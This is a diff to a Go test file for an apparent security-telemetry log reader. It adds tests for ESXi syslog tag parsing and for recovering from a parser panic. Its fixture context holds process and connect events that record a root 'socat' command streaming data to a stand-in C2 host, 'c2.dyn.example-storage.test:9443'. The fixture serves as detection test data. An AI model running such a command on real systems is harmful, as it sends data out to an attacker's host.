@@ -121,3 +121,39 @@ const outflowLines = `{"outflow_event":"process_start","time":"2026-12-01T10:59:
 {"outflow_event":"module_load","time":"2026-12-01T10:59:39.601944211Z","host":"lab","feed":"procfs","pid":10399,"ppid":10397,"image":"/usr/bin/socat","command_line":"socat -u - TCP:c2.dyn.example-storage.test:9443","user":"root","parent_image":"/usr/bin/timeout","parent_command_line":"timeout 60 socat -u - TCP:c2.dyn.example-storage.test:9443","target":"/usr/lib/x86_64-linux-gnu/libcrypto.so.3"}
 {"outflow_event":"connect","time":"2026-12-01T10:59:39.600108114Z","host":"lab","feed":"procfs","pid":10399,"ppid":10397,"image":"/usr/bin/socat","command_line":"socat -u - TCP:c2.dyn.example-storage.test:9443","user":"root","parent_image":"/usr/bin/timeout","parent_command_line":"timeout 60 socat -u - TCP:c2.dyn.example-storage.test:9443","proto":6,"src":"10.77.0.2","src_port":41376,"dst":"198.51.100.10","dst_port":9443,"initiated":true,"has_src_port":true}
 `
+
+// TestESXiTabAfterTag: issue 16's 41-byte line, a syslog header whose tag is
+// followed by a tab, read to its message instead of failing.
+func TestESXiTabAfterTag(t *testing.T) {
+	line := "2026-12-01T10:00:00Z esx1 Hostd:\tstarted"
+	e, ok := esxiLine(line)
+	if ok && (e.Host != "esx1" || e.Target != "started") {
+		t.Errorf("%+v", e)
+	}
+	r := NewReader("test")
+	var n int
+	r.Line([]byte(line), 0, func(*Event) { n++ })
+	if r.Stats.Errors[ReasonPanic] != 0 {
+		t.Fatalf("%v", r.Stats.Errors)
+	}
+}
+
+// TestReaderSurvivesAParserBug: a panic inside a parser is one counted,
+// reported record, and the next record is read.
+func TestReaderSurvivesAParserBug(t *testing.T) {
+	var errs []*Error
+	r := NewReader("test")
+	r.OnError = func(e *Error) { errs = append(errs, e) }
+	var got []string
+	emit := func(e *Event) {
+		if e.Host == "boom" {
+			panic("a bug")
+		}
+		got = append(got, e.Host)
+	}
+	r.Line([]byte("2026-12-01T10:00:00Z boom Hostd: hostd[1] one"), 7, emit)
+	r.Line([]byte("2026-12-01T10:00:01Z esx2 Hostd: hostd[2] two"), 90, emit)
+	if len(got) != 1 || got[0] != "esx2" || r.Stats.Errors[ReasonPanic] != 1 || len(errs) != 1 || errs[0].Offset != 7 {
+		t.Fatalf("events %v, errors %v %+v", got, r.Stats.Errors, errs)
+	}
+}
